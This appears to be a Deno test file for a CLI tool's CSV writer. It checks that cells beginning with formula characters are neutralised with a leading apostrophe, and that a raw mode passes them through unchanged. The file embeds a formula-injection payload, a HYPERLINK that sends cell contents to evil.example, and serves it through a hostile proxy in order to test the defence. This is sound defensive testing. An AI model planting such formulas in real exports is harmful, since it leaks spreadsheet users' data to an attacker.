/**
 * CSV formula injection (issue 18, item 3): cells a spreadsheet would run as a formula (`=`, `+`,
 * `-`, `@`, tab, carriage return first) get a `'` in front in every CSV mspe-run writes, `call`,
 * fleet and report alike, from a hostile server in front of the simulator; numbers stay numbers, and
 * `raw` writes the cells as sent.
 */

import assert from "node:assert/strict";
import { serveMock } from "../lib/mock/mod.ts";
import { csvField, csvHeader, csvRow, renderCsv } from "../lib/cli/output/csv.ts";
import { runCli } from "./cli_helpers.ts";
import { type Rewrites, serveHostileProxy } from "./_hostile_proxy.ts";

const USER = { MSPE_USERNAME: "admin", MSPE_PASSWORD: "admin" };
const FORMULA = `=HYPERLINK("https://evil.example/?leak="&A1,"Click")`;
/** The formula as a CSV field, neutralised: quoted (it has quotes and a comma), `'` first. */
const NEUTRALISED = `"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`;

Deno.test("csvField neutralises formulas by the OWASP rule; numbers stay numbers", () => {
  for (const text of ["=1+1", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "=", "@"]) {
    assert.ok(csvField(text).replace(/^"/, "").startsWith(`'${text[0]}`), csvField(text));
  }
  assert.equal(csvField(FORMULA), NEUTRALISED);
  // JSON numbers, and text that is exactly a decimal number, which no spreadsheet runs.
  assert.equal(csvField(-5), "-5");
  assert.equal(csvField(-1.5e3), "-1500");
  for (const text of ["-5", "+5", "-1.5e3", "-.5", "+1E+2", "12"]) {
    assert.equal(csvField(text), text);
  }
  // Not at the start: nothing to neutralise.
  assert.equal(csvField("a=b"), "a=b");
  assert.equal(csvField("user@example.com"), "user@example.com");
  // Column names too, and every writer.
  assert.equal(csvHeader(["=cmd", "ok"]), "'=cmd,ok\r\n");
  assert.equal(csvRow(["a"], { a: "@x" }), "'@x\r\n");
  assert.equal(renderCsv([{ a: "+x", n: -1 }]), "a,n\r\n'+x,-1\r\n");
  // raw: as sent, for programs.
  assert.equal(csvField("=1+1", { raw: true }), "=1+1");
  assert.equal(csvHeader(["=cmd"], { raw: true }), "=cmd\r\n");
  assert.equal(csvRow(["a"], { a: "@x" }, { raw: true }), "@x\r\n");
  assert.equal(renderCsv([{ a: "+x" }], { raw: true }), "a\r\n+x\r\n");
});

/** Every user's full name a formula, and a number as JSON number and as text beside it. */
const rewrites: Rewrites = {
  reply: (fn, _args, envelope) => {
    if (fn === "GetUsers" && Array.isArray(envelope.result)) {
      const result = envelope.result.map((user: Record<string, unknown>) => ({
        ...user,
        fullName: FORMULA,
        quota: -5,
        note: "-1.5e3",
      }));
      return { ...envelope, result };
    }
    if (fn === "GetInstances" && Array.isArray(envelope.result)) {
      const result = envelope.result.map((instance: Record<string, unknown>) => ({
        ...instance,
        displayName: FORMULA,
      }));
      return { ...envelope, result };
    }
    return envelope;
  },
};

function assertNeutralised(where: string, csv: string, rows: number): void {
  assert.equal(csv.split(NEUTRALISED).length - 1, rows, `${where}:\n${csv}`);
  // No cell starts with the formula: not first in a line, not after a comma.
  assert.ok(!/(^|,|\n)"?=HYPERLINK/.test(csv), `${where}:\n${csv}`);
}

Deno.test("call, fleet and report CSV each carry '=HYPERLINK(...) from a hostile server", async (t) => {
  await using mock = await serveMock({ instances: 3, usersPerInstance: 2 });
  await using proxy = serveHostileProxy(mock, rewrites);

  await t.step("call", async () => {
    const { code, stdout, stderr } = await runCli(
      ["call", "GetUsers", "instanceID=acme", "--format", "csv", ...proxy.flags],
      { env: USER },
    );
    assert.equal(code, 0, stderr);
    // Two users and $archiveadmin.
    assertNeutralised("call", stdout, 3);
    // A JSON number and text that is a number stay numbers.
    assert.match(stdout, /,-5,-1\.5e3\r\n/);
  });

  await t.step("fleet", async () => {
    const { code, stdout, stderr } = await runCli(
      ["call", "GetUsers", "--instances", "*", "--format", "csv", ...proxy.flags],
      { env: USER },
    );
    assert.equal(code, 0, stderr);
    assertNeutralised("fleet", stdout, 9);
  });

  await t.step("report", async () => {
    const { code, stdout, stderr } = await runCli(
      ["report", "usage", "--format", "csv", ...proxy.flags],
      { env: USER },
    );
    assert.equal(code, 0, stderr);
    assertNeutralised("report", stdout, 3);
  });
});

Deno.test("--csv-raw writes cells as the server sent them, for programs that read the CSV", async () => {
  const { startMock } = await import("./_helpers.ts");
  const { mockFlags } = await import("./cli_helpers.ts");
  const { runCliInProcess } = await import("./_cli_in_process.ts");
  await using mock = await startMock();
  const env = { MSPE_USERNAME: "admin", MSPE_PASSWORD: "admin" };
  const flags = [...mockFlags(mock.port), "--format", "csv"];
  const name = '=HYPERLINK("http://x")';
  const set = await runCliInProcess(
    [
      "call",
      "SetUserFullName",
      "instanceID=acme",
      "userName=john.doe",
      `fullName=${name}`,
      ...flags,
    ],
    { env },
  );
  assert.equal(set.code, 0, set.stderr);
  const users = ["call", "GetUsers", "instanceID=acme", ...flags, "--select", "userName,fullName"];
  const safe = await runCliInProcess(users, { env });
  assert.match(safe.stdout, /john\.doe,"'=HYPERLINK\(""http:\/\/x""\)"/);
  const raw = await runCliInProcess([...users, "--csv-raw"], { env });
  assert.equal(raw.code, 0, raw.stderr);
  assert.match(raw.stdout, /john\.doe,"=HYPERLINK\(""http:\/\/x""\)"/);
  const fleet = await runCliInProcess(
    ["call", "GetUsers", "--instances", "acme", ...flags, "--csv-raw"],
    { env },
  );
  assert.match(fleet.stdout, /acme,john\.doe,"=HYPERLINK/);
});
